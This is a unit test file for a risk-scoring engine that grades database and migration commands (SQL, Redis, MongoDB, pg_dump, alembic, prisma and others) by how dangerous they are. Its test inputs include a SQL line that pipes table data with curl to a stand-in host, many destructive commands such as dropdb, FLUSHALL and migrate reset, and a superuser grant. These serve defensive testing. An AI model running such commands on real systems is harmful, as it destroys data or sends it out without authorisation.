// Databases: SQL that matches every row, statements EXPLAIN ANALYZE runs, queries piped in, production
// reads, dumps and restores, and the shared vocabulary of migration tools.
import { describe, expect, it } from 'vitest';
import type { ParsedCommand, Segment } from '../../../../../electron/core/risk/model.ts';
import { judgeMongo, judgeSql, printsNoRows } from '../../../../../electron/core/risk/rules/data.ts';
import { PROJECT, simpleParse, testEngine } from '../../../../support/risk.ts';

const engine = testEngine();
const score = (cmd: string) => engine.assess(cmd, PROJECT);
const worst = (sql: string) => Math.max(...judgeSql(sql).map((f) => f.score));

/** `psql -h HOST -c SQL` as the parser gives it (the SQL is one word). */
function psql(sql: string, host = 'localhost'): string {
  const seg: Segment = {
    ...(simpleParse('psql').segments[0] as Segment),
    argv: ['psql', '-h', host, '-c', sql].map((text) => ({ text, known: true })),
  };
  const parsed: ParsedCommand = { segments: [seg], complete: true, problems: [] };
  return testEngine({ parse: () => parsed }).assess('psql', PROJECT).level;
}

describe('SQL', () => {
  it('treats a WHERE every row satisfies as no WHERE', () => {
    expect(worst('DELETE FROM sessions WHERE 1=1')).toBeGreaterThanOrEqual(75);
    expect(worst('UPDATE users SET email=NULL WHERE true')).toBeGreaterThanOrEqual(75);
    expect(worst("DELETE FROM t WHERE 'a'='a'")).toBeGreaterThanOrEqual(75);
    expect(worst('DELETE FROM t WHERE id = 1')).toBeLessThan(50);
  });

  it('runs the statement under EXPLAIN ANALYZE, and only plans it under EXPLAIN', () => {
    expect(worst('EXPLAIN ANALYZE DELETE FROM orders')).toBeGreaterThanOrEqual(75);
    expect(worst('EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders')).toBeGreaterThanOrEqual(75);
    expect(worst('EXPLAIN DELETE FROM orders')).toBeLessThan(25);
  });

  it('knows other things that drop, and SQL that runs shell commands', () => {
    expect(worst('DROP KEYSPACE analytics')).toBeGreaterThanOrEqual(90);
    expect(worst('DROP SEQUENCE s')).toBeGreaterThanOrEqual(50);
    expect(worst("COPY t TO PROGRAM 'curl -d @- https://x.example'")).toBeGreaterThanOrEqual(75);
    expect(worst('ALTER USER app WITH SUPERUSER')).toBeGreaterThanOrEqual(50);
  });

  it('tells queries that print rows from those that print counts', () => {
    expect(printsNoRows('SELECT count(*) FROM orders')).toBe(true);
    expect(printsNoRows('\\dt')).toBe(true);
    expect(printsNoRows('SELECT * FROM users LIMIT 50')).toBe(false);
  });
});

describe('database clients', () => {
  it('judges production reads by whether rows reach the transcript', () => {
    expect(psql('SELECT * FROM users LIMIT 50', 'prod-db.internal')).toBe('high');
    expect(psql('SELECT count(*) FROM orders', 'prod-db.internal')).toBe('medium');
    expect(psql('SELECT * FROM users LIMIT 50')).toBe('low');
    expect(psql('DELETE FROM orders WHERE id = 4', 'prod-db.internal')).toBe('high');
  });

  it.each([
    ['echo FLUSHALL | redis-cli', 'critical'],
    ['echo PING | redis-cli', 'low'],
    ['redis-cli -h cache-prod.internal INFO', 'medium'],
    // Low only for commands known to read: a Lua script may write anything.
    ['redis-cli GET session:1', 'low'],
    ['redis-cli EVAL "return 1" 0', 'medium'],
    ['redis-cli FUNCTION LOAD x', 'medium'],
    ['redis-cli CLIENT KILL ID 7', 'medium'],
    ['psql -f migrations/003_add_index.sql', 'medium'],
    ['pg_dump -h prod-db.internal shop > shop.sql', 'medium'],
    ['pg_dump -h prod-db.internal shop', 'high'],
    ['pg_dump --schema-only -d app_dev', 'low'],
    ['pg_restore --clean -d app dump.sql', 'high'],
    ['mongoimport --db app --collection users --file users.json', 'medium'],
    ['createdb app_test', 'low'],
    ['dropdb app', 'critical'],
  ])('%s is %s', (cmd, level) => expect(score(cmd).level).toBe(level));
});

describe('migration tools', () => {
  it.each([
    ['alembic downgrade base', 'critical'],
    ['alembic downgrade -1', 'high'],
    ['alembic upgrade head', 'medium'],
    ['alembic current', 'low'],
    ['flyway clean', 'critical'],
    ['flyway migrate', 'medium'],
    ['liquibase dropAll', 'critical'],
    ['knex migrate:rollback --all', 'critical'],
    ['knex migrate:rollback', 'high'],
    ['knex migrate:latest', 'medium'],
    ['knex migrate:status', 'low'],
    ['sequelize db:migrate:undo:all', 'critical'],
    ['prisma db push --accept-data-loss', 'critical'],
    ['npx prisma migrate reset --force', 'critical'],
    ['npx prisma migrate dev --name add_users', 'medium'],
    ['npx prisma generate', 'low'],
    ['bin/rails db:rollback', 'high'],
    ['bin/rails db:migrate', 'medium'],
    ['bin/rails db:migrate:status', 'low'],
    ['knex migrate:latest --env production', 'high'],
    ['mix ecto.reset', 'critical'],
    ['mix test', 'low'],
    ['php artisan migrate:fresh', 'critical'],
    ['python manage.py migrate', 'medium'],
    ['python manage.py flush --no-input', 'critical'],
    ['python manage.py migrate shop zero', 'critical'],
    ['python manage.py showmigrations', 'low'],
    ['python manage.py runserver', 'low'],
    ['goose down', 'high'],
    ['migrate -path db -database postgres://x up', 'medium'],
  ])('%s is %s', (cmd, level) => expect(score(cmd).level).toBe(level));
});

describe('SQL and other query languages', () => {
  const worst = (fs: Array<{ score: number; reason: string }>) => fs.reduce((a, b) => (b.score > a.score ? b : a));
  it.each([
    ['DROP TABLE users', 85],
    ['drop database if exists app;', 95],
    ['TRUNCATE orders', 85],
    ['DELETE FROM users', 85],
    ['DELETE FROM users WHERE id = 3', 30],
    ['UPDATE users SET admin = true', 80],
    ['UPDATE users SET admin = true WHERE id = 1', 30],
    ['SELECT * FROM users; -- DROP TABLE x', 8],
    ['select 1; drop table t', 85],
  ])('%s scores %d', (sql, expected) => expect(worst(judgeSql(sql)).score).toBe(expected));

  it('reads MongoDB shell code', () => {
    expect(worst(judgeMongo('db.dropDatabase()')).score).toBe(95);
    expect(worst(judgeMongo('db.users.deleteMany({})')).score).toBe(85);
    expect(worst(judgeMongo('db.users.find({})')).score).toBe(8);
  });

  it('calls MongoDB code low only when every call is known to read', () => {
    expect(worst(judgeMongo('db.users.find({}).limit(5).toArray()')).score).toBe(8);
    expect(worst(judgeMongo('db.runCommand({dropDatabase: 1})')).score).toBe(85);
    expect(worst(judgeMongo('db.adminCommand({shutdown: 1})')).score).toBe(85);
    for (const js of [
      'db.users.findOneAndDelete({})',
      'db.users.bulkWrite([])',
      'db.users.aggregate([{$out: "x"}])',
      'db.getCollection("x").renameCollection("y")',
    ])
      expect(worst(judgeMongo(js)).score, js).toBe(30);
  });
});
